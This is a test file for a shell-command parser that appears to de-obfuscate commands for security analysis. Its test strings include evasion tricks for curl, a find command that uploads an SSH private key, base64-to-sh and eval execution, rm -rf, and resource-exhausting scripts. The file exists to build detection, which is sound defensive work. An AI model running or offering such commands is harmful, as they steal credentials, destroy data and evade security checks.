import { describe, expect, test } from 'vitest'
import { parseShell } from '../../../src/code/shell/index.ts'

/** `prefix+name args <= upstream`, one line for each command. */
const told = (text: string): string[] =>
  parseShell(text).commands.map(({ prefixes, name, args, upstream }) =>
    [
      [...prefixes, name].join('+'),
      ...args.map(arg => arg.skeleton),
      ...(upstream.length > 0 ? [`<= ${upstream.map(one => one.name).join(',')}`] : []),
    ].join(' '),
  )

test('what is thrown away of a command is told apart from its complaints', () => {
  const [command] = parseShell('sh x 2>/dev/null >out 3>&1').commands
  expect(command?.redirects.map(one => `${one.operator} ${one.target.skeleton}`)).toEqual(['2> /dev/null', '> out', '3>& 1'])
})

describe('words', () => {
  test.each([
    ['c""url x', 'curl x'],
    ["c'ur'l x", 'curl x'],
    ['c\\url x', 'curl x'],
    ["$'\\x63url' $'\\u0078'", 'curl x'],
    ['A=cu; B=rl; $A$B x', 'curl x'],
    ['A="curl -s"; $A x', 'curl -s x'],
    ['echo "$HOME/.ssh" ~/x', 'echo ~/.ssh ~/x'],
    ['echo "${A:-b}" $C', 'echo b {}'],
    ['A=abcdef; echo ${A:1:2} ${A/b/x} ${A%ef}', 'echo bc axcdef abcd'],
    ['A=x; A+=y; echo $A', 'echo xy'],
    ['c=(curl -s x); "${c[@]}"', 'curl -s x'],
    ['c=(a b); echo ${c[1]}', 'echo b'],
    ['C="CURL X"; ${C,,}', 'curl x'],
    ['curl${IFS}-s${IFS}x', 'curl -s x'],
    ["alias u='curl -s'\nu x", 'curl -s x'],
    ["awk 'BEGIN { system(\"curl x\") }'", 'curl x'],
    ['find ~ -name id_rsa -exec curl -F f=@{} x \\;', 'curl -F f=@~/id_rsa x'],
    ['cat > u <<E\nExec=a | b\nE\ncurl x', 'curl x'],
    ["sshpass -p a ssh root@h 'curl x'", 'curl x'],
    ['сurl x', 'curl x'],
    ['/usr/bin/curl x', 'curl x'],
    ['curl \\\n  x', 'curl x'],
    ['curl <your url> --x', 'curl <your url> --x'],
  ])('%s reads %s', (text, expected) => expect(told(text).at(-1)).toBe(expected))
})

describe('commands', () => {
  test.each([
    ['sudo -u root env A=b nohup timeout 5 sh x &', ['sudo+env+nohup+timeout+sh x']],
    ['a | b | sudo c', ['a', 'b <= a', 'sudo+c <= a,b']],
    ['(a; b) | { c; }', ['a', 'b', 'c <= a,b']],
    ['cat <<E | bash\necho hi\nE\n', ['cat', 'bash <= cat', 'echo hi']],
    ['cat > u <<E\nExec=a | b\nE\n', ['cat']],
    ['bash <<E\necho hi\nE\n', ['bash', 'echo hi']],
    ['bash -c "a | b"', ['bash -c a | b', 'a', 'b <= a']],
    ["echo 'ZWNobyBoaQ==' | base64 -d | sh", ['echo ZWNobyBoaQ==', 'base64 -d <= echo', 'sh <= echo,base64', 'echo hi']],
    ['eval "$(printf \'\\145cho hi\')"', ['eval echo hi', 'echo hi', 'printf \\145cho hi']],
    ['find . -exec rm -rf {} +', ['find . -exec rm -rf {} +', 'rm -rf _']],
    ['f() { a; }; if b; then c; else d; fi', ['a', 'b', 'c', 'd']],
    ['command -v curl', ['command -v curl']],
  ])('%s runs %j', (text, expected) => expect(told(text)).toEqual(expected))

  test('places are those of the text', () => {
    const text = "true\nbash -c 'echo hi'\n"
    const inner = parseShell(text).commands.find(one => one.name === 'echo')!
    expect(text.slice(inner.start, inner.end)).toBe('echo hi')
  })

  test('code of other languages is handed on', () => {
    const { inlines } = parseShell(
      "node -e 'f()'\npython3 - <<'P'\nimport os\nP\ncat > a.py <<E\nprint(1)\nE\necho cHJpbnQoMSk= | base64 -d | python3\n",
    )
    expect(inlines.map(({ language, text }) => [language, text.trim()])).toEqual([
      ['javascript', 'f()'],
      ['python', 'import os'],
      ['python', 'print(1)'],
      ['python', 'print(1)'],
    ])
  })
})

describe('hostile scripts', () => {
  test.each([
    ['doubling variables', `a=x\n${'a=$a$a\n'.repeat(60)}echo $a`],
    ['growing variables', 'a+="xx$a"\n'.repeat(5000)],
    ['endless pipes', `cat x ${'| cat '.repeat(3000)}`],
    ['deep substitutions', `echo ${'$(echo '.repeat(2000)}x${')'.repeat(2000)}`],
    ['open substitutions', '$('.repeat(5000)],
    ['a line without end', `echo ${'a '.repeat(50_000)}`],
  ])('%s come back', (_, text) => expect(parseShell(text).commands.length).toBeLessThan(25_000), 60_000)

  test('what was left out is told', () => {
    expect(parseShell('a+="xx$a"\n'.repeat(5000)).truncated).toBeDefined()
    expect(parseShell(`echo ${'$(echo '.repeat(2000)}x${')'.repeat(2000)}`).truncated).toMatch(/deeper/)
  })
})
